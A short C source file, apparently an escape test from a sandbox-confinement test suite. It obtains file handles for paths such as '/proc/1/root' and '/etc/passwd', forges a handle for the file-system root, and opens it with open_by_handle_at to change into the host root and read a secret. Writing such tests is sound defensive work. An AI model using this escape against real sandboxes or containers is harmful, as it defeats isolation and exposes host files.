/* Asks for handles of its files and leaves by them, to the root of their file system (name_to_handle_at(2)). */
#include "common/attack.h"

static void attempt(void) {
    static union {
        struct file_handle handle;
        char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } key;
    int id;
    for (const char *const *at = (const char *const[]){"/", "/bin", "/proc/1/root", "/etc/passwd", NULL}; *at; at++) {
        key.handle.handle_bytes = MAX_HANDLE_SZ;
        said(*at, name_to_handle_at(AT_FDCWD, *at, &key.handle, &id, 0));
        /* The root directory of most file systems on disks. */
        *(uint32_t *)key.handle.f_handle = 2;
        key.handle.handle_bytes = 8;
        key.handle.handle_type = 1;
        int from = open("/", O_RDONLY);
        int fd = TRY(open_by_handle_at(from, &key.handle, O_RDONLY | O_DIRECTORY));
        if (fd >= 0) {
            TRY(fchdir(fd));
            show("secret");
        }
        close(from);
    }
}
